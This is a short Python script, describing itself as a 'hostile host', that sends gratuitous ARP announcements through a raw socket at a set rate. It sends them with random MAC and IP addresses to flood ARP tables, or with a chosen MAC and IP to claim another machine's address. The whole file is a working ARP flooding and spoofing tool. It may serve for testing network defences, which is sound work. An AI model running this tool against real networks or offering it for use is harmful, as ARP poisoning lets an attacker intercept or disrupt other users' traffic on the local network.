"""A hostile host: ARP announcements of addresses. Arguments: interface, count, seconds, and MAC and IP.

Without MAC and IP each announcement has random addresses.
"""

from __future__ import annotations

import random
import socket
import struct
import sys
import time


def announcement(mac: bytes, ip: bytes) -> bytes:
    """A gratuitous ARP request."""
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + mac + ip + bytes(6) + ip
    return b"\xff" * 6 + mac + b"\x08\x06" + body.ljust(46, b"\0")


def flood(ifname: str, count: int, seconds: float, mac: bytes = b"", ip: bytes = b"") -> None:
    chance = random.Random(21)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind((ifname, 0))
        begun = time.monotonic()
        for number in range(count):
            host = mac or bytes([0x02, *chance.randbytes(5)])
            out.send(announcement(host, ip or bytes([10, 0, *chance.randbytes(2)])))
            ahead = begun + (number + 1) * seconds / count - time.monotonic()
            if ahead > 0.002:
                time.sleep(ahead)


if __name__ == "__main__":
    ifname, count, seconds, *claimed = sys.argv[1:]
    mac, ip = (
        (bytes.fromhex(claimed[0].replace(":", "")), socket.inet_aton(claimed[1])) if claimed else (b"", b"")
    )
    flood(ifname, int(count), float(seconds), mac, ip)
